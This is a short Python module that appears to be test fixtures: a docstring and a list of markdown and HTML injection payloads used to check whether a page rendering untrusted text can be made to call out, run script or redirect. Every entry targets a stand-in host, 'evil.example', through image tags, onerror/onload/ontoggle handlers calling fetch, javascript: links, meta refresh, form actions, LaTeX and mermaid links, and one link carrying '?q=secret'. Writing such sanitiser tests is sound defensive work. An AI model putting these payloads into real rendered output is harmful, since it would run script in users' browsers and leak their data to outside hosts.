"""What a text may try to make a page do: call out, run, or lead away. Every surface that shows a stranger's text is tried with all of it."""

from __future__ import annotations

PAYLOADS = [
    "![x](http://evil.example/a.png)", "<img src=http://evil.example/a.png>", "<img src=x onerror=fetch('http://evil.example')>", "<script>fetch('http://evil.example')</script>",
    "<svg onload=fetch('http://evil.example')>", "<iframe src=http://evil.example></iframe>", "[a](javascript:alert(1))", "<style>*{background:url(http://evil.example)}</style><p style='background:url(http://evil.example)'>x</p>",
    "<video src=http://evil.example autoplay></video>", "[a](http://evil.example/?q=secret)", "![x][r]\n\n[r]: http://evil.example/a.png", "<img srcset='http://evil.example/a 2x'>",
    "<picture><source srcset=http://evil.example/a></picture>", "<object data=http://evil.example></object><embed src=http://evil.example>", "<form action=http://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'><link rel=stylesheet href=http://evil.example><base href=http://evil.example>", "<details open ontoggle=fetch('http://evil.example')>x</details>",
    "$$\\href{http://evil.example}{x}$$ \\(\\includegraphics{http://evil.example/a.png}\\)", "```mermaid\ngraph TD; A[\"<img src=http://evil.example>\"]-->B\nclick A href \"http://evil.example\"\n```", "<http://evil.example/auto>", "www.evil.example http://evil.example",
]  # fmt: skip
